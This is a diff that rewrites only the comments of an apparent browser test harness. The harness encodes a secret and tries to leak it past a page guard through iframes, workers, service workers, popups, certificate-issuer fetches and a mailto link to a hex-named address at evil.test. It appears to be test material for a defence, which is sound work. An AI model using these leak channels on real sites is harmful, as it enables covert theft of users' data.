@@ -1,8 +1,8 @@
-// Waits for a street in the form, and then attacks in every place of PLACES. PORT is the first port of the first place.
+// Waits for a street in the form, and then attacks in every context of PLACES. PORT is the first port of the first one.
 const places = PLACES, reported = {};
 const port = (place) => PORT + 10 * places.indexOf(place);
 let hex = '';
-// Which street the shop's own answers spell: it was told in another way.
+// The street that the shop's own answers spell, which the shop knows through another channel.
 const asked = new URLSearchParams(location.search);
 const known = asked.has('street') ? 'preset' : 'released';
 const call = (place, relayAlone) => `(${attack})('${place}', '${hex}', ${port(place)}, ${!!relayAlone})`;
@@ -42,7 +42,7 @@ const go = {
   script: (place) => frame({ src: 'javascript:' + encodeURIComponent(JSON.stringify(html(place))) }),
   written: (place) => { const it = frame({}).contentDocument; it.open(); it.write(html(place)); it.close(); },
   borrowed: (place) => {
-    // The constructors of a frame's first, empty document, taken in the step in which it came to be.
+    // The constructors of a frame's first, empty document, taken in the step that creates it.
     const taken = frame({}).contentWindow;
     report(place, taken.eval(call(place)));
   },
@@ -57,10 +57,10 @@ const go = {
     navigator.serviceWorker.onmessage = (event) => report(place, event.data);
     navigator.serviceWorker.ready.then((it) => it.active.postMessage({ place, hex, port: port(place) }));
   },
-  // What the shop's own answers make the browser fetch: the shop was told the street in another way.
+  // The shop's own answers make the browser fetch. The shop knows the street through another channel.
   answer: (place) => { frame({ src: '/answer?' + known }); report(place, ['answer']); },
   driven: (place) => {
-    // A worker that was there before makes the page make the frame.
+    // An earlier worker makes the page create the frame.
     const driver = new Worker(blob('setTimeout(() => postMessage(0), 300)', 'text/javascript'));
     driver.onmessage = () => { const it = frame({}); it.setAttribute('sandbox', 'allow-scripts'); it.srcdoc = html(place); };
   },
@@ -68,10 +68,10 @@ const go = {
 const begin = (street) => {
   hex = [...new TextEncoder().encode(street)].map((byte) => byte.toString(16).padStart(2, '0')).join('');
   const attempt = (place) => { try { go[place](place); } catch (error) { report(place, []); } };
-  // The frames that run before the guard's script does are the ones to hurry with; what may hold the page up comes last.
+  // Frames that run before the guard's script come first, and attacks that may delay the page come last.
   attempt('sandboxed');
   places.filter((place) => !['sandboxed', 'popup'].includes(place)).forEach(attempt);
-  // An address that is given to another program, where there is one that writes it down.
+  // An address that another program opens, if the test has one that records it.
   if (asked.has('letter')) frame({ src: `mailto:${hex}@evil.test` });
   const end = performance.now() + 8000;
   const wait = setInterval(() => {
@@ -80,7 +80,7 @@ const begin = (street) => {
     const told = places.map((place) => `${place}:${(reported[place] || []).length}`).join(',');
     fetch(`/tried?${told}`).catch(() => {}).then(() => {
       attempt('popup');
-      // From now on the shop's certificate lacks the one of its issuer, and says where that is.
+      // From now on the shop's certificate lacks its issuer's, and names the address of that.
       return fetch('/swap?' + known).then(() => setInterval(() => fetch('/swapped').catch(() => {}), 500));
     });
   }, 50);
